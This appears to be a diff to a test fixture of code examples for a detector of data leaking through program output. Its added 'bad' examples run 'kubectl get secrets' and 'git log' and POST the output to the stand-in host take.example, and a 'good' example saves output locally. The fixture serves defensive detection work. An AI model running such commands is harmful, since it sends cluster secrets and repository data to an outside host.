@@ -52,8 +52,23 @@ export const throughPrograms: DetectorExamples = {
       why: 'the same in one call',
       attributes: { source: 'download', sink: 'process.program', to: 'process' },
     },
+    {
+      code: "import { execFile } from 'node:child_process'; import { promisify } from 'node:util'; const run = promisify(execFile); const { stdout } = await run('kubectl', ['get', 'secrets']); await fetch('https://take.example/x', { method: 'POST', body: stdout });",
+      why: 'what a program prints is sent',
+      attributes: { source: 'program-output', sink: 'network.body', to: 'take.example' },
+    },
+    {
+      path: 'x.py',
+      code: 'import subprocess, requests\nlog = subprocess.check_output(["git", "log"])\nrequests.post("https://take.example/x", data=log)',
+      why: 'the same in Python',
+      attributes: { source: 'program-output', sink: 'network.body', to: 'take.example' },
+    },
   ],
   good: [
+    {
+      code: "import { execFile } from 'node:child_process'; import { writeFile } from 'node:fs/promises'; execFile('git', ['log'], (error, stdout) => writeFile('log.txt', stdout));",
+      why: 'what a program prints is kept',
+    },
     {
       path: 'x.py',
       code: 'import os, subprocess\nlog = open("run.log", "w")\nos.dup2(log.fileno(), 1)\nsubprocess.run(["git", "status"], stdin=subprocess.DEVNULL)',
